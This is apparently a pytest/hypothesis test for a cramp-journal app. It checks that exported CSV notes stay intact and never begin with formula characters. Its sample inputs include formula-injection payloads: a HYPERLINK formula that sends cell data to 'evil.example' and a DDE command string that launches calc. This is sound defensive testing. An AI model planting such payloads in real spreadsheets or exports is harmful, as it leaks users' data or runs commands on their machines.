"""CSV export of arbitrary notes: one row per entry, the text intact, never a formula."""

from __future__ import annotations

import csv
import shutil
from pathlib import Path

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from cramplog.domain import ValidationError
from cramplog.services import Journal
from cramplog.services import validate as v

from .conftest import NOW, copy_journal

pytest.importorskip("cramplog.report.csv_export")

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")

notes = st.one_of(
    st.text(max_size=60),
    st.tuples(st.sampled_from((*FORMULA_START, "'", '"', ",", ";")), st.text(max_size=40)).map(
        "".join
    ),
    st.sampled_from(
        [
            '=HYPERLINK("http://evil.example/?"&A1,"click")',
            "+1+1",
            "-2+3",
            "@SUM(A1:A9)",
            '"quoted", with comma\nand a second line',
            "=cmd|' /C calc'!A0",
            "a;b;c",
        ]
    ),
)


@pytest.mark.slow
@settings(
    max_examples=25,
    deadline=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture],
)
@given(st.lists(notes, min_size=1, max_size=4))
@example(["=1+1", "@x", "-5", "+5"])
def test_notes_survive_csv_export_and_never_become_formulas(
    empty_template: Path, tmp_path_factory: pytest.TempPathFactory, texts: list[str]
) -> None:
    from cramplog.report.csv_export import export_csv

    folder = tmp_path_factory.mktemp("csv")
    db = copy_journal(empty_template, folder / "journal.sqlite3")
    journal = Journal.open(db)
    kept: list[str] = []
    try:
        for text in texts:
            try:
                clean = v.text("notes", text)
            except ValidationError:
                continue  # refused at the boundary: never stored, never exported
            journal.log_cramp(
                now=NOW, at="2026-03-05T02:30+01:00", muscle="calf", side="left", notes=clean
            )
            kept.append(clean)
        written = export_csv(journal, folder / "out", force=False)
    finally:
        journal.close()
    cells: list[str] = []
    for path in written:
        with Path(path).open(newline="", encoding="utf-8-sig") as handle:
            rows = list(csv.DictReader(handle))
        for row in rows:
            for key, value in row.items():
                if key and "note" in key.lower() and value:
                    cells.append(value)
                    assert not value.startswith(FORMULA_START), (path, value)
    for note in kept:
        if not note:
            continue
        assert any(
            cell == note or (cell.endswith(note) and len(cell) == len(note) + 1) for cell in cells
        ), (note, cells)
    shutil.rmtree(folder)
